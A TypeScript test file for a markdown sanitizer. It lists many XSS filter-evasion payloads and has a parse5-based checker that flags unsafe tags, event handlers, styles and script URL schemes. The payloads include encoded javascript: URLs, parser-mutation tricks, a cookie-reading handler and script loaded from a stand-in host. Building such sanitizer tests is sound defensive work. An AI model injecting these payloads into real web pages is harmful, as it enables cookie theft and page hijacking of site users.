// Script-injection vectors in the style of the OWASP XSS filter evasion cheat sheet (tags, attributes, URL schemes,
// encodings, nesting, mutation), written as markdown input, and a checker that parses rendered HTML the way a
// browser does (parse5) and reports whatever could run script or restyle the page.
import { parseFragment } from 'parse5';

export const XSS_VECTORS: string[] = [
  // tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe src=http://xss.example/scriptlet.html <',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<FORM><BUTTON FORMACTION="javascript:alert(1)">X</BUTTON></FORM>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<base href="javascript:alert(1)//">',
  "<svg/onload=alert('XSS')>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<textarea><script>alert(1)</script></textarea>',
  '<video><source onerror="alert(1)"></video>',
  // event-handler attributes
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input type="text" onfocus="alert(1)" autofocus>',
  '<input type="checkbox" onclick="alert(1)" checked>',
  '<marquee onstart=alert(1)>x</marquee>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| cell |',
  // URL schemes, cases and encodings
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href="java&#x0000000073;cript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  // markdown links, images and autolinks
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javas&#99;ript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](vbscript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '[[javascript:alert(1)]] [[x|javascript:alert(1)]]',
  '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
  // style injection
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
  '<a href="https://example.com" style="position:fixed;inset:0">overlay</a>',
  '<table><tr><td style="text-align:left; background-image:url(javascript:alert(1))">x</td></tr></table>',
  // nesting and parser differentials
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="https://example.com"><script>alert(1)</script></a>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '> <iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '- [ ] <img src=x onerror=alert(1)>',
];

/** Tags a rendered document may contain; anything else (script, iframe, form, svg, …) counts as injected. */
const SAFE_TAGS = new Set([
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'p',
  'br',
  'hr',
  'blockquote',
  'pre',
  'code',
  'kbd',
  'samp',
  'var',
  'b',
  'i',
  'strong',
  'em',
  'del',
  's',
  'strike',
  'ins',
  'sub',
  'sup',
  'u',
  'mark',
  'small',
  'abbr',
  'q',
  'cite',
  'dfn',
  'a',
  'img',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'table',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'caption',
  'details',
  'summary',
  'div',
  'span',
  'figure',
  'figcaption',
  'ruby',
  'rt',
  'rp',
  'input',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'cite',
  'action',
  'formaction',
  'background',
  'poster',
  'data',
  'srcset',
  'xlink:href',
]);
const DANGEROUS_SCHEME = /^(javascript|vbscript|livescript|data|file):/i;
const SAFE_STYLE = /^text-align:(left|right|center|justify);?$/i;

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  content?: Node;
}

/** Findings that could run script or restyle the page; empty when the HTML is inert. */
export function executableLeftIn(html: string): string[] {
  const findings: string[] = [];
  const visit = (node: Node) => {
    if (node.tagName) {
      if (!SAFE_TAGS.has(node.tagName)) findings.push(`<${node.tagName}>`);
      if (node.tagName === 'input' && !node.attrs?.some((a) => a.name === 'type' && a.value === 'checkbox'))
        findings.push('<input> that is not a checkbox');
      for (const { name, value } of node.attrs ?? []) {
        const lower = name.toLowerCase();
        if (lower.startsWith('on')) findings.push(`${node.tagName}[${name}]`);
        if (lower === 'style' && !SAFE_STYLE.test(value.replace(/\s+/g, '')))
          findings.push(`${node.tagName}[style="${value}"]`);
        // Browsers ignore these characters when they read a URL's scheme.
        if (URL_ATTRIBUTES.has(lower) && DANGEROUS_SCHEME.test(value.replace(/[\u0000-\u0020]/g, '')))
          findings.push(`${node.tagName}[${name}="${value}"]`);
        if (lower === 'srcdoc' || lower === 'formaction' || lower === 'xlink:href')
          findings.push(`${node.tagName}[${name}]`);
      }
    }
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content) visit(node.content);
  };
  visit(parseFragment(html) as unknown as Node);
  return findings;
}
